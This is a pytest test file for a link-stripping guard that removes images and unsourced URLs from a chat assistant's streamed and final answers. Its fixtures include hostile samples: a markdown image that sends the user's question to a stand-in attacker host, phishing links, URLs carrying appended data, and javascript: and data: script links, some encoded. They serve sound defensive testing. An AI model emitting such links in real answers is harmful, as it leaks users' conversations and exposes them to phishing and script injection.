"""Answers carry no image and no URL their sources do not contain, streamed or final."""

from __future__ import annotations

import pytest

from chat.answering.links import REMOVED, LinkGuard, links_strip, urls_in

SOURCE = (
    "Download the app from https://ledgerly.example/download "
    "or read [the guide](https://docs.ledgerly.example/start)."
)
ALLOWED = urls_in([SOURCE])
HOSTILE = (
    "Get it at https://ledgerly.example/download [1]. "
    "![status](https://evil.example/c?q=how%20do%20I%20get%20a%20refund) "
    "More at [our docs](https://evil.example/phish) and "
    "https://ledgerly.example/download?leak=secret. "
    '<img src="https://evil.example/x.png"> '
    "See [the guide](https://docs.ledgerly.example/start) [1]."
)
EXPECTED = (
    "Get it at https://ledgerly.example/download [1]. "
    " "
    "More at our docs and " + REMOVED + ". "
    " "
    "See [the guide](https://docs.ledgerly.example/start) [1]."
)


def test_urls_in_the_sources_stay_and_everything_else_goes() -> None:
    assert links_strip(HOSTILE, ALLOWED) == EXPECTED


def test_images_go_even_when_their_url_is_in_a_source() -> None:
    allowed = urls_in(["![logo](https://ledgerly.example/logo.png)"])

    assert links_strip("Our logo: ![logo](https://ledgerly.example/logo.png)", allowed) == (
        "Our logo: "
    )


def test_an_allowed_address_with_data_appended_is_a_different_url() -> None:
    text = "See https://ledgerly.example/download?conversation=refund+for+jane"

    assert "jane" not in links_strip(text, ALLOWED)


def test_relative_links_and_citations_are_left_alone() -> None:
    text = (
        "Open [Settings](/settings/billing) and pay [2]. Protocols like javascript: are not links."
    )

    assert links_strip(text, frozenset()) == text


def test_javascript_and_protocol_relative_links_lose_their_target() -> None:
    text = "[click](javascript:alert(1)) and [there](//evil.example/x) and www.evil.example/y"

    stripped = links_strip(text, frozenset())

    assert "javascript" not in stripped and "evil.example" not in stripped
    assert stripped.startswith("click") and "there" in stripped


@pytest.mark.parametrize("size", [1, 2, 3, 5, 8, 13, 40])
def test_a_stream_cut_anywhere_shows_no_part_of_a_refused_url(size: int) -> None:
    guard = LinkGuard(ALLOWED)
    shown: list[str] = []
    for start in range(0, len(HOSTILE), size):
        shown.append(guard.feed(HOSTILE[start : start + size]))
    shown.append(guard.flush())

    assert "".join(shown) == EXPECTED
    assert not any("evil" in piece or "![" in piece or "leak=" in piece for piece in shown)
    assert sum(1 for piece in shown if piece) > 3, "still streamed, not held to the end"


def test_a_stream_of_plain_prose_is_not_held_back() -> None:
    guard = LinkGuard(frozenset())

    assert guard.feed("Refunds arrive within ") == "Refunds arrive within "
    assert guard.feed("5 business days [1]. ") == "5 business days [1]. "


def test_a_link_target_is_judged_as_a_browser_reads_it() -> None:
    text = (
        "[a](javascript&#58;alert(1)) [b](&#106;avascript:alert(2)) [c](JaVaScRiPt:alert(3)) "
        "[d](data:text/html;base64,PHNjcmlwdD4=) [e](/\\evil.example/x) [f](\\/evil.example/y) "
        "[g](/settings/billing)"
    )

    stripped = links_strip(text, frozenset())

    # (The ")" closing "alert(1)" is text after the link, as before: harmless.)
    assert stripped.startswith("a) b) c) d e f [g](/settings/billing)")
    assert "script" not in stripped.lower() and "evil" not in stripped and "data:" not in stripped


REFERENCES = (
    "Refunds take 30 days [1].\n"
    "[1]: javascript:alert(1)\n"
    "  [docs]: https://evil.example/x\n"
    "[multi\nline]: javascript:alert(2)\n"
    "Not one: [1]: at the start of no line."
)
REFERENCES_BROKEN = (
    "Refunds take 30 days [1].\n"
    "\\[1]: javascript:alert(1)\n"
    f"  \\[docs]: {REMOVED}\n"
    "\\[multi\nline]: javascript:alert(2)\n"
    "Not one: [1]: at the start of no line."
)


def test_reference_definitions_cannot_turn_the_citation_markers_into_links() -> None:
    assert links_strip(REFERENCES, frozenset()) == REFERENCES_BROKEN
    assert links_strip(REFERENCES_BROKEN, frozenset()) == REFERENCES_BROKEN


@pytest.mark.parametrize("size", [1, 2, 3, 7, 40])
def test_reference_definitions_are_broken_up_however_the_stream_is_cut(size: int) -> None:
    guard = LinkGuard(frozenset())

    shown = [guard.feed(REFERENCES[i : i + size]) for i in range(0, len(REFERENCES), size)]

    assert "".join(shown) + guard.flush() == REFERENCES_BROKEN


def test_a_less_than_sign_does_not_hold_the_stream_back() -> None:
    guard = LinkGuard(frozenset())

    assert guard.feed("Refunds take < 5 days ") == "Refunds take < 5 days "
